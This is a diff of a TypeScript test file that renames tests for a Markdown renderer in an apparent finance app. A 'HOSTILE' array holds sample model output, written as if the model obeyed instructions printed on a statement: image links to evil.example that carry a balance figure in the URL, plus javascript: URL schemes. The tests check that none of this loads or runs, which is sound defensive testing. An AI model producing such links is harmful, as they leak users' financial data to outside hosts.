@@ -10,7 +10,7 @@ const rendered = (text: string, doors: FigureDoor[] = []) =>
     </Router>,
   );
 
-/** What a model writes that obeys whoever printed a statement's lines. */
+/** Output of a model that obeys instructions printed on a statement. */
 const HOSTILE = [
   "![balance](https://evil.example/pixel.png?balance=15368.82)",
   "![a][b]\n\n[b]: https://evil.example/pixel.png",
@@ -24,8 +24,8 @@ const HOSTILE = [
   "[![x](https://evil.example/nested.png)](/entries)",
 ];
 
-describe("what a model wrote", () => {
-  it("loads nothing from anywhere", () => {
+describe("a model's Markdown", () => {
+  it("loads nothing from other hosts", () => {
     for (const text of HOSTILE) {
       const html = rendered(text);
       expect(html, text).not.toMatch(
@@ -35,7 +35,7 @@ describe("what a model wrote", () => {
     }
   });
 
-  it("runs nothing when a link is opened", () => {
+  it("runs no script from a link", () => {
     for (const scheme of [
       "javascript:alert(1)",
       "JaVaScRiPt:alert(1)",
@@ -47,7 +47,7 @@ describe("what a model wrote", () => {
     }
   });
 
-  it("marks every link that leaves, and takes none that leaves for one of its own", () => {
+  it("marks every external link as external", () => {
     const away = rendered("[refund](https://evil.example/?q=1)");
     expect(away).toContain('rel="noopener noreferrer nofollow"');
     expect(away).toContain('class="hint"');
@@ -67,7 +67,7 @@ describe("what a model wrote", () => {
     expect(html).toContain("<table>");
   });
 
-  it("cannot make a figure look as if it came from the books", () => {
+  it("cannot make a figure look verified", () => {
     const doors = [
       { figure: "885.49", isKnown: true, paths: ["/entries?from=2026-01-01"] },
       { figure: "12", isKnown: false, paths: [null] },
@@ -78,7 +78,7 @@ describe("what a model wrote", () => {
     expect(html).toMatch(/class="ungrounded"[^>]*>12</);
   });
 
-  it("opens for each place of a figure what it is made of there, and nothing for a balance", () => {
+  it("links each occurrence of a figure to its transactions, and no balance", () => {
     const doors = [
       { figure: "12.99", isKnown: true, paths: ["/entries?from=2026-01-01", "/entries?from=2026-02-01"] },
       { figure: "500.00", isKnown: true, paths: [null] },
